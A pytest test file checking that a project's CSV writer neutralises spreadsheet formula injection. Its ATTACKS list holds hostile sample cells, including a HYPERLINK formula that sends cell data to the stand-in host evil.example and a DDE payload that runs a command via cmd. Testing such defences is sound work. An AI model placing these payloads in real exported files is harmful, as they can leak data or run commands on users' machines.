"""The project's CSV writer neutralises cells a spreadsheet would evaluate."""

import csv
import io

import pytest

from nuggets_app.lib.csvout import csv_cell, csv_writer

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_cells_are_written_as_text(text):
    out = io.StringIO()
    csv_writer(out).writerow(["tag", text])
    (row,) = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["tag", "'" + text]


@pytest.mark.parametrize("value", [-0.25, "-0.25", "-1e-05", "+3", 12, "0.5", "NaN"])
def test_numbers_and_plain_text_are_unchanged(value):
    assert csv_cell(value) == str(value)


def test_none_is_empty_and_rows_of_many_cells_are_all_checked():
    out = io.StringIO()
    csv_writer(out).writerows([[None, "=1", "a,b"], ["@x", 1.5, "-"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["", "'=1", "a,b"], ["'@x", "1.5", "'-"]]
